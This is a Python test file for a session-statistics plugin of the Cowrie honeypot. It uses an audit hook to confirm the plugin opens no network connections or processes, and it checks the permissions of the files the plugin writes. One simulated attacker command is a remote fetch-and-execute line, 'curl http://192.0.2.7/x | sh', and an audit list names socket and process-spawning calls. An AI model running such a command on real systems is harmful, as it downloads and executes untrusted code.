"""What the README says of the plugin's security: what it touches, and who may read it."""

from __future__ import annotations

import contextlib
import os
import socket
import stat
import sys
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
import pytest_twisted
from cowrie.core.config import CowrieConfig
from cowrie.output.sessionstats import Output
from logs import summarize, write_log
from samples import closed, command, connect, login
from twisted.internet import reactor, task

from cowrie_sessionstats.options import SECTION
from cowrie_sessionstats.outputs import log as log_module
from cowrie_sessionstats.store import Store

OUTWARD = (
    "socket.",
    "subprocess.",
    "os.system",
    "os.exec",
    "os.fork",
    "os.posix_spawn",
    "os.spawn",
)
HARMLESS = {"socket.gethostname"}
"""Asks the kernel, for the sensor's name."""


class Audit:
    """What Python's own audit says was done while ``is_on``."""

    def __init__(self) -> None:
        self.is_on = False
        self.outward: list[str] = []
        self.written: set[str] = set()

    def __call__(self, event: str, arguments: tuple[Any, ...]) -> None:
        """Note what goes out of the process, and files that are opened for writing."""
        if not self.is_on:
            return
        if event.startswith(OUTWARD) and event not in HARMLESS:
            self.outward.append(event)
        elif event == "sqlite3.connect" or (event == "open" and _writes(arguments[2])):
            self.written.add(os.fsdecode(arguments[0]))


def _writes(flags: object) -> bool:
    return isinstance(flags, int) and bool(flags & (os.O_WRONLY | os.O_RDWR | os.O_CREAT))


@pytest.fixture(scope="module")
def audit() -> Audit:
    """Return an audit, which cannot be taken out of the process again."""
    made = Audit()
    sys.addaudithook(made)
    return made


@pytest.fixture
def usual_umask() -> Iterator[None]:
    """Give the process the umask that Cowrie starts with."""
    before = os.umask(0o022)
    yield
    os.umask(before)


@pytest.mark.usefixtures("usual_umask")
@pytest_twisted.inlineCallbacks
def test_without_a_destination_the_plugin_writes_its_files_and_that_is_all(
    audit: Audit, tmp_path: Path
) -> Iterator[Any]:
    """No connection, no question to a name server, no program; a log, a store and its lock."""
    paths = {"logfile": str(tmp_path / "s.json"), "store": str(tmp_path / "s.sqlite")}
    CowrieConfig.read_dict({SECTION: {"enabled": "true", "pipeline": "false", **paths}})
    audit.is_on = True
    try:
        plugin = Output()
        for event in (
            connect(),
            login(),
            command("curl http://192.0.2.7/x | sh", 2.0),
            closed(3.0),
        ):
            plugin.write({**event, "time": 0.0})
        yield task.deferLater(reactor, 1.5, lambda: None)  # the store is written once a second
        plugin.stop()
        assert audit.outward == []
        assert audit.written == {*paths.values(), f"{paths['store']}.lock"}
        with contextlib.suppress(OSError), socket.socket() as link:
            link.connect(("127.0.0.1", 0))  # so that the audit is one
        assert "socket.connect" in audit.outward
    finally:
        audit.is_on = False
        CowrieConfig.remove_section(SECTION)
    modes = {path.name: stat.S_IMODE(path.stat().st_mode) for path in tmp_path.iterdir()}
    assert modes == {"s.json": log_module.MODE, "s.sqlite": 0o644, "s.sqlite.lock": 0o600}


@pytest.mark.usefixtures("usual_umask")
def test_a_store_that_was_closed_to_others_stays_so(tmp_path: Path) -> None:
    """With what SQLite puts beside it, in which the last records are."""
    path = tmp_path / "s.sqlite"
    path.touch(0o600)
    store = Store(path, ["siem"], lambda: 0.0, lambda _: None)
    assert store.open()
    store.add({"session": "5ca1ab1e0001"})
    store.commit()
    modes = {each.name: stat.S_IMODE(each.stat().st_mode) for each in tmp_path.iterdir()}
    store.close()
    assert modes == dict.fromkeys(
        ("s.sqlite", "s.sqlite-wal", "s.sqlite-shm", "s.sqlite.lock"), 0o600
    )


@pytest.mark.parametrize(("umask", "mode"), [(0o022, 0o644), (0o077, 0o600)])
def test_records_in_files_are_for_whom_the_umask_lets(
    umask: int, mode: int, tmp_path: Path
) -> None:
    """Who sets it has files that nobody else reads."""
    log = write_log(tmp_path / "cowrie.json", [connect(), login(), closed(3.0)])
    said = summarize(log, "-o", tmp_path / "s.jsonl", "--jobs", "1", umask=umask)
    assert said.status == 0
    assert stat.S_IMODE((tmp_path / "s.jsonl").stat().st_mode) == mode
